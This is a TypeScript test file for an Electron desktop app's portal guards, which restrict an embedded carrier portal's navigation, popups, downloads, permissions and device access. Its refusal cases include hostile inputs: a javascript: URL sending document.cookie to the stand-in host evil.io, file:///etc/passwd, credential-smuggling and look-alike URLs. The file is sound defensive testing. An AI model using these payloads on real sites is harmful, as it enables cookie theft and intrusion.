// The portal's navigation, popup, download, permission and device rules, as pure decisions and as
// installed on fake WebContents / Session objects.
import { beforeEach, describe, expect, it, vi } from 'vitest'
import { FakeContents, FakeEvent, FakeSession, ManualDefer, fakeElectron } from './electron-portal-fakes'

vi.mock('electron', async () => (await import('./electron-portal-fakes')).electronModule())

const {
  blockedUrlForReport,
  decidePortalNavigation,
  decidePortalWindowOpen,
  installPortalContentsGuards,
  installPortalSessionGuards,
  pageUrlForReport
} = await import('../../electron/main/portal/portal-guards')

const DOMAINS = ['*.t-mobile.com', 't-mobile.com']

beforeEach(() => {
  fakeElectron.reset()
})

describe('decidePortalNavigation', () => {
  it.each(['https://my.t-mobile.com/account', 'https://t-mobile.com/', 'https://WWW.T-MOBILE.COM/plans?x=1#top'])('allows %s', (url) => {
    expect(decidePortalNavigation(url, DOMAINS)).toEqual({ allow: true })
  })

  it.each([
    ['https://evil.io/phish', 'https://evil.io/phish'],
    ['http://my.t-mobile.com/', 'http://my.t-mobile.com/'],
    ['https://t-mobile.com.evil.io/', 'https://t-mobile.com.evil.io/'],
    ['https://t-mobile.com@evil.io/', 'https:'],
    ['file:///etc/passwd', 'file:'],
    ['javascript:fetch("https://evil.io/?c="+document.cookie)', 'javascript:'],
    ['data:text/html;base64,PHNjcmlwdD4=', 'data:'],
    ['app://hotspot-desk/index.html', 'app:'],
    ['smb://evil.io/share', 'smb:'],
    ['not a url', 'unparsable URL']
  ])('refuses %s, reported as %s', (url, reportUrl) => {
    expect(decidePortalNavigation(url, DOMAINS)).toEqual({ allow: false, reportUrl })
  })
})

describe('decidePortalWindowOpen', () => {
  it('loads an in-domain popup in the same view, normalized', () => {
    expect(decidePortalWindowOpen('HTTPS://My.T-Mobile.com/receipt', DOMAINS)).toEqual({
      action: 'load-in-view',
      url: 'https://my.t-mobile.com/receipt'
    })
  })

  it.each([
    ['another domain', 'https://evil.io/', 'https://evil.io/'],
    ['a look-alike', 'https://evil-t-mobile.com/', 'https://evil-t-mobile.com/'],
    ['about:blank', 'about:blank', 'about:'],
    ['javascript:', 'javascript:alert(1)', 'javascript:'],
    ['file:', 'file:///C:/Windows/System32/calc.exe', 'file:'],
    ['the app', 'app://hotspot-desk/index.html', 'app:']
  ])('denies %s', (_name, url, reportUrl) => {
    expect(decidePortalWindowOpen(url, DOMAINS)).toEqual({ action: 'deny', reportUrl })
  })
})

describe('what reaches the host', () => {
  it('a blocked http(s) URL in full, others by scheme only, credentials never', () => {
    expect(blockedUrlForReport('https://help.example/faq?q=1')).toBe('https://help.example/faq?q=1')
    expect(blockedUrlForReport('https://alice:hunter2@evil.io/')).toBe('https:')
    expect(blockedUrlForReport('javascript:alert("secret")')).toBe('javascript:')
    expect(blockedUrlForReport(`https://evil.io/${'a'.repeat(3000)}`)).toBe('https://evil.io/')
  })

  it('a page URL without query or fragment', () => {
    expect(pageUrlForReport('https://my.t-mobile.com/reset?token=abc#x')).toBe('https://my.t-mobile.com/reset')
    expect(pageUrlForReport('nonsense')).toBe('unparsable URL')
  })
})

function guarded(domains: readonly string[] = DOMAINS) {
  const contents = new FakeContents()
  const deferred = new ManualDefer()
  const blocked: [string, string][] = []
  const openedInView: string[] = []
  installPortalContentsGuards(contents.asPortalContents(), {
    allowedDomains: () => domains,
    onBlocked: (url, kind) => blocked.push([url, kind]),
    onOpenInView: (url) => openedInView.push(url),
    defer: deferred.defer
  })
  return { contents, blocked, openedInView, deferred }
}

describe('installPortalContentsGuards', () => {
  it.each(['will-navigate', 'will-frame-navigate', 'will-redirect'] as const)('%s: allows in-domain https, refuses the rest', (eventName) => {
    const { contents } = guarded()
    expect(contents.attempt(eventName, 'https://my.t-mobile.com/next')).toBe(false)
    for (const url of ['https://evil.io/', 'http://my.t-mobile.com/', 'file:///etc/passwd', 'javascript:alert(1)', 'app://hotspot-desk/']) {
      expect(contents.attempt(eventName, url)).toBe(true)
    }
  })

  it('reports a refused main-frame navigation once, though Electron emits two events for it', () => {
    const { contents, blocked, deferred } = guarded()
    expect(contents.clickLink('https://evil.io/')).toBe(true)
    // will-navigate after a prevented will-frame-navigate (ordering differs between versions): still one report.
    expect(contents.attempt('will-navigate', 'https://evil.io/')).toBe(true)
    expect(blocked).toEqual([['https://evil.io/', 'navigation']])
    deferred.flush()
    contents.clickLink('https://evil.io/')
    expect(blocked).toHaveLength(2)
  })

  it('names sub-frame navigations and redirects', () => {
    const { contents, blocked } = guarded()
    contents.attempt('will-frame-navigate', 'https://ads.example/frame', false)
    contents.attempt('will-redirect', 'https://sso.evil.io/login')
    expect(blocked).toEqual([
      ['https://ads.example/frame', 'subframe'],
      ['https://sso.evil.io/login', 'redirect']
    ])
  })

  it('reads the allow-list on every decision', () => {
    let domains = ['*.t-mobile.com']
    const contents = new FakeContents()
    installPortalContentsGuards(contents.asPortalContents(), {
      allowedDomains: () => domains,
      onBlocked: () => undefined,
      onOpenInView: () => undefined,
      defer: () => undefined
    })
    expect(contents.attempt('will-navigate', 'https://portal.mobile.rakuten.co.jp/')).toBe(true)
    domains = ['portal.mobile.rakuten.co.jp']
    expect(contents.attempt('will-navigate', 'https://portal.mobile.rakuten.co.jp/')).toBe(false)
  })

  it('window.open: never a new window; in-domain loads in the view, the rest is reported', () => {
    const { contents, blocked, openedInView } = guarded()
    expect(contents.windowOpen('https://my.t-mobile.com/receipt')).toEqual({ action: 'deny' })
    expect(contents.windowOpen('https://evil.io/')).toEqual({ action: 'deny' })
    expect(contents.windowOpen('javascript:alert(1)')).toEqual({ action: 'deny' })
    expect(openedInView).toEqual(['https://my.t-mobile.com/receipt'])
    expect(blocked).toEqual([
      ['https://evil.io/', 'window-open'],
      ['javascript:', 'window-open']
    ])
  })

  it('never opens anything in the OS browser by itself', () => {
    const { contents } = guarded()
    contents.windowOpen('https://evil.io/')
    contents.clickLink('https://help.example/')
    expect(fakeElectron.openExternal).not.toHaveBeenCalled()
  })

  it('refuses <webview> and cancels Bluetooth device selection', () => {
    const { contents } = guarded()
    const webview = new FakeEvent()
    contents.emit('will-attach-webview', webview, {}, {})
    expect(webview.defaultPrevented).toBe(true)
    const bluetooth = new FakeEvent()
    const choose = vi.fn()
    contents.emit('select-bluetooth-device', bluetooth, [{ deviceId: 'aa:bb', deviceName: 'Modem' }], choose)
    expect(bluetooth.defaultPrevented).toBe(true)
    expect(choose).toHaveBeenCalledWith('')
  })
})

describe('installPortalSessionGuards', () => {
  function locked() {
    const session = new FakeSession()
    const downloads: [unknown, string][] = []
    const log = { warn: vi.fn() }
    installPortalSessionGuards(session.asPortalSession(), { onDownloadBlocked: (contents, url) => downloads.push([contents, url]), log })
    return { session, downloads, log }
  }

  const PERMISSIONS = [
    'clipboard-read',
    'clipboard-sanitized-write',
    'media',
    'display-capture',
    'geolocation',
    'notifications',
    'midi',
    'midiSysex',
    'pointerLock',
    'fullscreen',
    'openExternal',
    'fileSystem',
    'window-management',
    'idle-detection',
    'storage-access',
    'top-level-storage-access',
    'keyboardLock',
    'speaker-selection',
    'local-network-access',
    'hid',
    'serial',
    'usb',
    'bluetooth',
    'unknown'
  ]

  it.each(PERMISSIONS)('denies the request for %s, even from an allowed portal page', (permission) => {
    const { session } = locked()
    expect(session.requestPermission(permission, 'https://my.t-mobile.com/')).toBe(false)
  })

  it.each(PERMISSIONS)('denies the check for %s', (permission) => {
    const { session } = locked()
    expect(session.checkPermission(permission, 'https://my.t-mobile.com')).toBe(false)
  })

  it('denies even what the app itself may have (clipboard writes from the app origin)', () => {
    const { session } = locked()
    expect(session.requestPermission('clipboard-sanitized-write', 'app://hotspot-desk/index.html')).toBe(false)
    expect(session.checkPermission('clipboard-sanitized-write', 'app://hotspot-desk')).toBe(false)
  })

  it('never grants a device and cancels every device chooser', () => {
    const { session } = locked()
    for (const deviceType of ['usb', 'serial', 'hid', 'bluetooth']) {
      expect(session.devicePermissionHandler?.({ deviceType, origin: 'https://my.t-mobile.com' })).toBe(false)
    }
    const hid = { event: new FakeEvent(), callback: vi.fn() }
    session.emit('select-hid-device', hid.event, { deviceList: [{ deviceId: '1' }] }, hid.callback)
    const usb = { event: new FakeEvent(), callback: vi.fn() }
    session.emit('select-usb-device', usb.event, { deviceList: [{ deviceId: '2' }] }, usb.callback)
    const serial = { event: new FakeEvent(), callback: vi.fn() }
    session.emit('select-serial-port', serial.event, [{ portId: '/dev/ttyUSB0' }], null, serial.callback)
    for (const chooser of [hid, usb, serial]) expect(chooser.event.defaultPrevented).toBe(true)
    expect(hid.callback).toHaveBeenCalledWith()
    expect(usb.callback).toHaveBeenCalledWith()
    expect(serial.callback).toHaveBeenCalledWith('')
  })

  it('refuses screen capture', () => {
    const { session } = locked()
    const callback = vi.fn()
    session.displayMediaHandler?.({ frame: null, securityOrigin: 'https://my.t-mobile.com' }, callback)
    expect(callback).toHaveBeenCalledWith(null)
  })

  it('cancels every download and says which page tried', () => {
    const { session, downloads } = locked()
    const contents = { id: 3 }
    expect(session.download(contents, 'https://my.t-mobile.com/receipt.pdf')).toBe(true)
    expect(session.download(contents, 'blob:https://my.t-mobile.com/1f2e')).toBe(true)
    expect(downloads).toEqual([
      [contents, 'https://my.t-mobile.com/receipt.pdf'],
      [contents, 'blob:https://my.t-mobile.com/1f2e']
    ])
  })

  it('cancels a download whose item cannot even be read', () => {
    const { session, downloads } = locked()
    const event = new FakeEvent()
    session.emit('will-download', event, { getURL: () => { throw new Error('gone') } }, { id: 1 }, null)
    expect(event.defaultPrevented).toBe(true)
    expect(downloads).toEqual([[{ id: 1 }, '']])
  })
})
